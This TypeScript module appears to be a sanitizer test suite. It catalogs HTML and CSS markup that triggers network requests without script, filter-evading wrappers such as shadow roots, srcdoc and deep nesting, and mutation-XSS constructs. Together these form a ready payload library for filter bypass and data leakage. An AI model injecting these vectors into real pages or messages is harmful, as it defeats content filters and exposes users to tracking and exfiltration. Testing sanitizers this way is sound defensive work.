// Markup that sends requests without a script, each with its target, and places to hide the markup.

type Way = (url: string) => string;

/** In an unfiltered page all of these connect; the control proves it. */
export const WAYS: Record<string, Way> = {
  frame: (url) => `<iframe src='${url}'></iframe>`,
  object: (url) => `<object data='${url}'></object>`,
  embed: (url) => `<embed src='${url}'>`,
  prefetch: (url) => `<link rel='prefetch' href='${url}'>`,
  preload: (url) => `<link rel='preload' as='image' href='${url}'>`,
  modulepreload: (url) => `<link rel='modulepreload' href='${url}'>`,
  stylesheet: (url) => `<link rel='stylesheet' href='${url}'>`,
  script: (url) => `<script src='${url}'></script>`,
  svgscript: (url) => `<svg><script href='${url}'></script></svg>`,
  speculation: (url) =>
    `<script type='speculationrules'>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  image: (url) => `<img src='${url}'>`,
  srcset: (url) => `<img srcset='${url} 1x'>`,
  picture: (url) => `<picture><source srcset='${url}'><img></picture>`,
  input: (url) => `<input type='image' src='${url}'>`,
  poster: (url) => `<video poster='${url}'></video>`,
  video: (url) => `<video src='${url}' preload='auto' autoplay muted></video>`,
  audio: (url) => `<audio preload='auto' src='${url}'></audio>`,
  source: (url) => `<video preload='auto' autoplay muted><source src='${url}'></video>`,
  tablebackground: (url) => `<table background='${url}'><tr><td>x</td></tr></table>`,
  svgimage: (url) => `<svg width='9' height='9'><image width='9' height='9' href='${url}'/></svg>`,
  svgxlink: (url) =>
    `<svg width='9' height='9'><image width='9' height='9' xlink:href='${url}'/></svg>`,
  smil: (url) =>
    `<svg width='9' height='9'><image width='9' height='9'><set attributeName='href' to='${url}'/></image></svg>`,
  feimage: (url) =>
    `<svg width='9' height='9'><filter id='f'><feImage href='${url}'/></filter><rect width='9' height='9' filter='url(#f)'/></svg>`,
  cssurl: (url) => `<p style='background:url(${url})'>x</p>`,
  cssescape: (url) => `<p style='background:u\\72 l(${url})'>x</p>`,
  cssset: (url) => `<p style='background:image-set("${url}" 1x)'>x</p>`,
  cssvariable: (url) => `<p style='--x:url(${url});background:var(--x)'>x</p>`,
  csslist: (url) => `<ul style='list-style-image:url(${url})'><li>x</li></ul>`,
  cssborder: (url) => `<p style='border:9px solid;border-image:url(${url}) 9'>x</p>`,
  cssmask: (url) => `<p style='mask-image:url(${url})'>x</p>`,
  csscontent: (url) => `<p style='content:url(${url})'>x</p>`,
  cssimport: (url) => `<style>@import '${url}';</style>`,
  cssimportescape: (url) => `<style>@\\69mport url(${url});</style>`,
  cssfont: (url) =>
    `<style>@font-face{font-family:e;src:url(${url})}</style><p style='font-family:e'>x</p>`,
  csssheet: (url) => `<style>b{background:url('${url}')}</style><b>x</b>`,
};

/** Resource hints that an automated Chromium ignores; other browsers follow them. */
export const UNHEARD: Record<string, Way> = {
  preconnect: (url) => `<link rel='preconnect' href='${url}'>`,
  lookup: (url) => `<link rel='dns-prefetch' href='${url}'>`,
  manifest: (url) => `<link rel='manifest' href='${url}'>`,
  portal: (url) => `<portal src='${url}'></portal>`,
  fenced: (url) => `<fencedframe src='${url}'></fencedframe>`,
  mathlink: (url) => `<math href='${url}'><mi>x</mi></math>`,
  attribution: (url) => `<img attributionsrc='${url}' src='data:,'>`,
  use: (url) => `<svg><use href='${url}#x'/></svg>`,
  csscursor: (url) => `<p style='cursor:url(${url}),auto'>x</p>`,
  cssnamespace: (url) => `<style>@namespace url(${url});</style>`,
  track: (url) => `<video src='data:,'><track default src='${url}'></video>`,
};

/** Tested separately: these navigate the page or change how other URLs resolve. */
export const ALONE: Record<string, Way> = {
  refresh: (url) => `<meta http-equiv='refresh' content='0;url=${url}'>`,
  base: (url) => `<base href='${url}/'><img src='relative.png'>`,
  bodybackground: (url) => `<body background='${url}'>`,
};

type Place = (markup: string) => string;

const shadow: Place = (markup) => `<div><template shadowrootmode="open">${markup}</template></div>`;
const escaped: Place = (markup) => markup.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Places that filters tend to miss. The control proves that an unfiltered page connects in each. */
export const PLACES: Record<string, Place> = {
  plain: (markup) => markup,
  shadow,
  nested: (markup) => shadow(shadow(markup)),
  foreign: (markup) => `<svg><foreignObject>${markup}</foreignObject></svg>`,
  foreignshadow: (markup) => `<svg><foreignObject>${shadow(markup)}</foreignObject></svg>`,
  desc: (markup) => `<svg><desc>${markup}</desc></svg>`,
  math: (markup) => `<math><mtext>${markup}</mtext></math>`,
  mathshadow: (markup) => `<math><mtext>${shadow(markup)}</mtext></math>`,
  annotation: (markup) =>
    `<math><annotation-xml encoding="text/html">${shadow(markup)}</annotation-xml></math>`,
  srcdoc: (markup) => `<iframe srcdoc="${escaped(markup)}"></iframe>`,
  srcdocshadow: (markup) => shadow(`<iframe srcdoc="${escaped(shadow(markup))}"></iframe>`),
  deep: (markup) => `${"<div>".repeat(300)}${markup}`,
};

/** Places that change meaning when the page is serialized and parsed again (mutation XSS). */
export const MUTATING: Record<string, Place> = {
  glyph: (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
  styled: (markup) => `<svg></p><style><a id="</style>${markup.replaceAll('"', "&quot;")}">`,
  noscript: (markup) => `<noscript><p title="</noscript>${escaped(markup)}"></noscript>${markup}`,
  inert: (markup) => `<template>${markup}</template><template>${shadow(markup)}</template>`,
  tabled: (markup) => `<table><tr><select>${shadow(markup)}</select>${markup}`,
  comment: (markup) => `<!--><div>-->${markup}<!-- -- --!>${shadow(markup)}`,
  cdata: (markup) => `<svg><![CDATA[><img>]]>${markup}</svg>${shadow(markup)}`,
  plaintext: (markup) => `${shadow(markup)}<xmp>${markup}</xmp><plaintext>${markup}`,
  deeper: (markup) => `${"<b><i>".repeat(400)}${shadow(markup)}${markup}`,
};
